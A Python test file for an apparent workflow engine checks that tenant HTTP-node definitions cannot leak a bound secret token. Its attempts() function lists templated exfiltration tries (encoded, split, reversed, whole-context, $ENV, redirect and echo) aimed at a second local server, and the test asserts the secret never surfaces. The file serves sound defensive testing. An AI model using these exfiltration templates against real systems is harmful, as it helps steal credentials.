"""Every way a tenant's definition might read a bound secret, in a running engine: the
value (whole, split, base64, hex, reversed) appears in no event of the runs, no error,
no output, no log line and no request the other server received. Only the bound host
gets it, in its header."""

from __future__ import annotations

import asyncio
import base64
import json
import logging
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from prometheus_client import CollectorRegistry

from aob.platform.api.app import create_app
from aob.platform.settings import Settings
from aob.workers.host import WorkerHost
from aob.workers.http import HttpWorker, HttpWorkerSettings
from aob.workers.http.settings import SecretBinding
from tests.secrets.leaks import leaks
from tests.workers.http.servers import Request, Response, Server

SECRET = "gh-Zq9vW7xY2pL4mK8sT3"
FINISHED = {"completed", "failed", "cancelled"}


def echoing(request: Request) -> Response:
    """A bound server that gives the secret back in every form it can."""
    token = request.headers.get("authorization", "").removeprefix("Bearer ")
    forms = {
        "base64": base64.b64encode(f"x{token}y".encode()).decode(),
        "hex": token.encode().hex(),
        "reversed": token[::-1],
        "plain": token,
    }
    status = 401 if request.path == "/deny" else 200
    return Response(status, forms if status == 200 else json.dumps(forms))


@pytest.fixture
async def servers() -> AsyncIterator[tuple[Server, Server]]:
    a, b = await Server().start("127.0.0.1"), await Server().start("127.0.0.1")
    a.route("/echo", echoing)
    a.route("/deny", echoing)
    a.route("/go", lambda r: Response(302, headers={"Location": f"http://127.0.0.1:{b.port}/in"}))
    b.route("/in", lambda r: Response(200, {"seen": r.headers, "body": r.body.decode()}))
    yield a, b
    await a.stop()
    await b.stop()


@pytest.fixture
async def api(tmp_path: Path, servers: tuple[Server, Server]) -> AsyncIterator[httpx.AsyncClient]:
    a, b = servers
    app = create_app(Settings(data_dir=tmp_path / "data", workers=["builtin", "hitl", "agent"]))
    binding = {
        "value": SECRET,
        "format": "Bearer {value}",
        "hosts": [f"127.0.0.1:{a.port}"],
        "tenants": ["default"],
    }
    settings = HttpWorkerSettings(  # type: ignore[call-arg]
        _env_file=None,
        allow=[f"127.0.0.1:{a.port}", f"127.0.0.1:{b.port}"],
        secrets={"github": SecretBinding.model_validate(binding)},
    )
    async with app.router.lifespan_context(app):
        worker = HttpWorker(settings, registry=CollectorRegistry())
        host = WorkerHost(app.state.engine.log, worker.node_type(), worker_id="http")
        await host.start()
        stop = asyncio.Event()
        running = asyncio.create_task(host.run(stop))
        try:
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://aob") as client:
                yield client
        finally:
            stop.set()
            await running
            await worker.aclose()


def attempts(a: int, b: int) -> dict[str, dict[str, Any]]:
    """Node configs, each an attempt to get the secret to server B or into the log."""
    to_b = f"http://127.0.0.1:{b}/in"
    return {
        "url": {"url": to_b + "?k={{ .secrets.github | @base64 }}"},
        "url-split": {"url": to_b + "?a={{ .secrets.github[0:6] }}&b={{ .secrets.github[6:] }}"},
        "header": {"url": to_b, "headers": {"X-Leak": "{{ .secrets | tojson }}"}},
        "body": {"url": to_b, "method": "POST", "body": {"s": "{{ .secrets }}"}},
        "body-index": {"url": to_b, "method": "POST", "body": '{{ .["secrets"] | @base32 }}'},
        "expect": {"url": to_b, "expect_status": ["{{ .secrets | tojson | @base64 }}"]},
        "reversed": {
            "url": to_b,
            "headers": {"X": "{{ .secrets.github | explode | reverse | implode }}"},
        },
        "hex": {"url": to_b, "query": {"h": "{{ .secrets.github | @uri }}"}},
        "whole-context": {"url": to_b, "method": "POST", "body": "{{ . | tojson }}"},
        "env": {"url": to_b, "method": "POST", "body": "{{ $ENV | tojson }}"},
        "bound-to-b": {"url": to_b, "secrets": ["github"]},
        "redirect": {"url": f"http://127.0.0.1:{a}/go", "secrets": ["github"]},
        "echo": {"url": f"http://127.0.0.1:{a}/echo", "secrets": ["github"]},
        "echo-error": {"url": f"http://127.0.0.1:{a}/deny", "secrets": ["github"]},
    }


async def run_to_end(api: httpx.AsyncClient, config: dict[str, Any]) -> dict[str, Any]:
    definition = {
        "name": "exfiltrate",
        "nodes": [{"id": "n", "type": "http", "config": config}],
        "output": ".nodes.n",
    }
    response = await api.post("/api/v1/runs", json={"definition": definition, "inputs": {}})
    assert response.status_code == 202, response.text
    run_id = response.json()["run_id"]
    for _ in range(1000):
        run: dict[str, Any] = (await api.get(f"/api/v1/runs/{run_id}")).json()
        if run["status"] in FINISHED:
            return run
        await asyncio.sleep(0.02)
    raise AssertionError(f"run {run_id} did not finish")


async def test_no_attempt_leaves_a_trace_of_the_secret(api, servers, caplog):
    caplog.set_level(logging.DEBUG)
    a, b = servers
    evidence: list[str] = []
    outcomes = {}
    for name, config in attempts(a.port, b.port).items():
        run = await run_to_end(api, config)
        outcomes[name] = run["status"]
        events = (await api.get(f"/api/v1/runs/{run['run_id']}/events")).json()
        evidence += [json.dumps(run), json.dumps(events)]
        if name.startswith(("url", "header", "body", "expect", "reversed", "hex")):
            assert run["status"] == "failed", (name, run)
            assert "templates cannot read secrets" in json.dumps(events), name
    assert outcomes["bound-to-b"] == "failed"
    assert outcomes["echo-error"] == "failed"
    for name in ("whole-context", "env", "redirect", "echo"):
        assert outcomes[name] == "completed", name
    # B got only the requests without secrets: the whole context, $ENV, the redirect.
    for request in b.requests:
        assert "authorization" not in request.headers
        evidence.append(json.dumps(request.headers) + request.target + request.body.decode())
    assert len(b.requests) == 3, "the attempts that reached B are part of the evidence"
    # A got the secret in the bound header, and only there.
    for request in a.requests:
        assert request.headers["authorization"] == f"Bearer {SECRET}"
        rest = {k: v for k, v in request.headers.items() if k != "authorization"}
        evidence.append(json.dumps(rest) + request.target + request.body.decode())
    evidence.append(caplog.text)
    found = {leak for text in evidence for leak in leaks(text, SECRET)}
    assert not found
